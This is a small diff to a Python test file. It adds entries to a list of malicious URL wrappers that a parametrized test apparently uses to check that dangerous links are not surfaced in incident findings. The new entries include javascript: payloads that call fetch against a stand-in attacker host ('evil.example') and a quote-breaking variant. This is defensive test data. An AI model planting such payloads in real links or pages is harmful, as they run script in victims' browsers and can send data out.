@@ -77,7 +77,8 @@ def test_chaos_links_dressed_up_are_not_offered_but_the_failures_are_still_an_in
     assert not [u for inc in findings.incidents for c in inc.causes for u in c.urls if origin in u]
 
 
-WRAPPERS = ["javascript:alert(1)//", "javascript://", "data:text/html,", "vbscript:x//"]
+WRAPPERS = ["javascript:alert(1)//", "javascript://", "data:text/html,", "vbscript:x//",
+            "javascript:fetch('//evil.example')//", 'javascript:fetch("//evil.example")//', "javascript:'"]
 
 
 @pytest.mark.parametrize("wrapper", WRAPPERS)
